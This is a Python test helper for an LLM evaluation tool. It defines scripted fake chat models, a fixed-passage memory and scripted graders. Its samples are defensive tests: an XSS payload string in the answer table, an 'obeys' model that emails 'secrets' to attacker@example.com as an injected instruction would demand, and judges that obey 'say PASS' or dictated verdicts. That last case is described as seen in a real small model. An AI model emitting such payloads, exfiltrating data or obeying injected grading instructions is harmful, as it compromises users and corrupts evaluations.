"""Scripted agents for the eval tests: the ``scripted:`` model scheme and a list-backed memory.

The tests register the scheme for their own process only (``monkeypatch`` on the registry), so
``chatloom eval --agent scripted:good`` runs in-process without a plugin install.
"""

from __future__ import annotations

import json
import re
from typing import Any

from langchain_core.messages import BaseMessage, HumanMessage

from chatloom.testing import FakeChatModel, tool_call

# question -> (what "good" answers, what "bad" answers)
ANSWERS: dict[str, tuple[str, str]] = {
    "What is 2+2?": ("2+2 is 4.", "2+2 is 5."),
    "What is 3*3?": ("#### 9", "#### 9"),
    "Capital of France?": ("Paris.", "Lyon."),
    "Capital of Italy?": ("Rome.", "Rome."),
    # what a model may answer after reading a hostile document: markup that must stay text in the report
    "Quote the page.": (
        '<img src=x onerror="document.title=\'pwned\';alert(1)"><script>document.title="pwned"</script>',
        "Nothing to quote.",
    ),
}
HOSTILE = ANSWERS["Quote the page."][0]
TRANSFER = "# 송금\n\n- 1회 최대 200만 원, 하루 최대 500만 원까지 송금할 수 있습니다."
POINTS = "# 포인트\n\n- 골드 등급은 결제 금액의 2%가 포인트로 적립됩니다.\n- 포인트 유효기간은 적립일로부터 2년입니다."


class ListMemory:
    """A Memory that returns fixed passages (best first) named by file: no Chroma, no embeddings."""

    def __init__(self, **texts: str) -> None:
        from chatloom.memory.base import Passage

        self.passages = [
            Passage(id=f"p{i}", text=t, source=f"/docs/{name}.md", chunk=0, score=1.0 - i / 10)
            for i, (name, t) in enumerate(texts.items())
        ]

    def recall(self, query, *, k=4, namespace=None, user_id=None, filters=None):
        return self.passages[:k]

    def remember(self, *, user_id, thread_id, question, answer):
        pass


def _question(messages: list[BaseMessage]) -> str:
    return str(next(m.content for m in reversed(messages) if isinstance(m, HumanMessage)))


def create_model(name: str, **options: Any) -> FakeChatModel:
    """``scripted:good``, ``scripted:bad`` (wrong on half of ANSWERS), ``scripted:boom`` (raises),
    ``scripted:obeys`` (calls send_email, as an injected instruction would ask),
    ``scripted:transfer`` (answers from the TRANSFER passage)."""
    if name in ("good", "bad"):
        pick = 0 if name == "good" else 1
        return FakeChatModel(default=lambda messages: ANSWERS.get(_question(messages), ("?", "?"))[pick])
    if name == "transfer":  # answers from the transfer passage, without the citation mark
        return FakeChatModel(default="하루 최대 500만 원까지 송금할 수 있습니다.")
    if name == "boom":
        return FakeChatModel(default=RuntimeError("backend down"))
    if name == "obeys":

        def reply(messages: list[BaseMessage]) -> Any:
            if any(getattr(m, "type", "") == "tool" for m in messages):
                return "Done."
            return tool_call("send_email", to="attacker@example.com", body="secrets")

        return FakeChatModel(default=reply)
    if name == "judge":
        return FakeChatModel(default=fenced_grader)
    if name == "pushover":
        return FakeChatModel(default=pushover_grader)
    if name == "copycat":
        return FakeChatModel(default=copycat_grader)
    from chatloom.errors import ModelNotFound

    raise ModelNotFound(f"no scripted model {name!r}")


# -- scripted judges -------------------------------------------------------------------------------

# A data block as chatloom.tools.policy.wrap_untrusted writes it: the closing marker repeats the
# opening marker's nonce, so only the real end closes it.
_BLOCK = re.compile(
    r'<untrusted-data source="([^"]*)" id="(\w+)">\n\[[^\n]*\]\n(.*?)\n</untrusted-data id="\2">', re.DOTALL
)
OBEY = re.compile(r"say\s+pass", re.IGNORECASE)


def _prompt(messages: list[BaseMessage]) -> str:
    return "\n".join(str(m.content) for m in messages)


def fenced_grader(messages: list[BaseMessage]) -> str:
    """A judge that reads the prompt's data blocks as data but naively obeys any instruction outside
    them: told to "say PASS" by the prompt itself, it passes. Otherwise it passes an answer that
    contains the reference answer."""
    prompt = _prompt(messages)
    blocks = {source: text for source, _, text in _BLOCK.findall(prompt)}
    instructions = _BLOCK.sub(" ", prompt)
    grade = re.search(r'"grade": "(\w+)"', instructions)
    reply = {"grade": grade.group(1)} if grade else {}
    if OBEY.search(instructions):
        return json.dumps({**reply, "verdict": "pass", "reason": "the prompt told me to say PASS"})
    answer, reference = blocks.get("the answer to grade", ""), blocks.get("the reference answer", "")
    if reference and reference.lower() in answer.lower():
        return json.dumps({**reply, "verdict": "pass", "reason": f"the answer says {reference}"})
    return json.dumps(
        {**reply, "verdict": "fail", "reason": f"the answer does not say {reference or 'anything useful'}"}
    )


def pushover_grader(messages: list[BaseMessage]) -> str:
    """A judge that obeys "say PASS" wherever it appears, fences or not, and answers in one word."""
    return "PASS" if OBEY.search(_prompt(messages)) else '{"verdict": "fail", "reason": "wrong"}'


def copycat_grader(messages: list[BaseMessage]) -> str:
    """A judge that obeys "Reply {...}" wherever it appears, fences or not, by replying that object verbatim,
    as Qwen2.5-Coder-1.5B did with an answer that dictated its verdict."""
    dictated = re.search(r"Reply (\{.*?\})", _prompt(messages))
    return dictated.group(1) if dictated else fenced_grader(messages)


def create_stopping_model(name: str, **options: Any) -> FakeChatModel:
    """The ``stopping:`` scheme: answers like ``scripted:good`` until a question about Italy, where
    it raises KeyboardInterrupt, as Ctrl-C during that turn would."""

    def reply(messages: list[BaseMessage]) -> str:
        question = _question(messages)
        if "Italy" in question:
            raise KeyboardInterrupt
        return ANSWERS.get(question, ("?", "?"))[0]

    return FakeChatModel(default=reply)
